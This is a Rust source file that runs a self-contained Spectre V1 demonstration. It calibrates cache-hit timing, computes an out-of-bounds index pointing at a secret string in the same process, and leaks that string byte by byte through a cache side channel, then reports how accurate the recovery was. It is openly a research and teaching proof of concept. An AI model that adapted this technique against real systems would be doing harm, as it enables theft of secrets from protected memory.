// Spectre V1 covert channel demo
//
// The "application" below keeps a secret string that no code ever reads
// architecturally; the attacker half recovers it one byte at a time through
// the cache. Both halves share this process only to keep the demo small.
//
// Tuning knobs are read from SPECTRE_* environment variables, see config.rs.
//

/// Never read architecturally, only leaked.
#[cfg(target_arch = "x86_64")]
const SECRET: &str = "The Magic Words are Squeamish Ossifrage.";

#[cfg(target_arch = "x86_64")]
const CALIBRATION_ROUNDS: usize = 1000;

#[cfg(target_arch = "x86_64")]
fn main() -> anyhow::Result<()> {
    use std::io::{self, Write};

    use anyhow::Context;
    use spectre_channel::orchestrator::random_guess_accuracy;
    use spectre_channel::{leak_secret, ChannelConfig, Harness};

    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();

    let config = ChannelConfig::from_env().context("invalid channel configuration")?;
    log::info!("{:?}", config);

    let mut harness = Harness::new(config).context("invalid channel configuration")?;

    let cal = harness.calibrate(CALIBRATION_ROUNDS);
    log::info!(
        "calibration: hit ~{} cycles, miss ~{} cycles, suggested threshold {}",
        cal.hit,
        cal.miss,
        cal.suggested_threshold()
    );
    if !cal.separates(config.hit_threshold) {
        log::warn!(
            "hit threshold {} does not separate hits from misses on this machine, expect noise",
            config.hit_threshold
        );
    }

    // distance from the guarded array to the secret, the index the victim is
    // tricked into using
    let malicious_x = harness.offset_of(SECRET.as_ptr());
    log::info!(
        "distance to secret = {:#x} ({:p} -> {:p})",
        malicious_x,
        harness.guarded().as_ptr(),
        SECRET.as_ptr()
    );

    let stdout = io::stdout();
    let mut out = stdout.lock();
    let report = leak_secret(&mut harness, malicious_x, SECRET.len(), config.trials, &mut out)
        .context("failed to write report")?;

    writeln!(out, "Guessed secret = `{}'", report.recovered_printable())?;
    writeln!(
        out,
        "Final stats: {:.2}% correct guesses ({} out of {} bytes, random guessing would get ~{:.2}%)",
        report.accuracy(SECRET.as_bytes()),
        report.correct(SECRET.as_bytes()),
        SECRET.len(),
        random_guess_accuracy()
    )?;

    // keep every side-effect load alive
    log::trace!("sink: {}", harness.sink());
    Ok(())
}

#[cfg(not(target_arch = "x86_64"))]
fn main() -> anyhow::Result<()> {
    anyhow::bail!("this experiment needs x86_64 (clflush and rdtscp)")
}
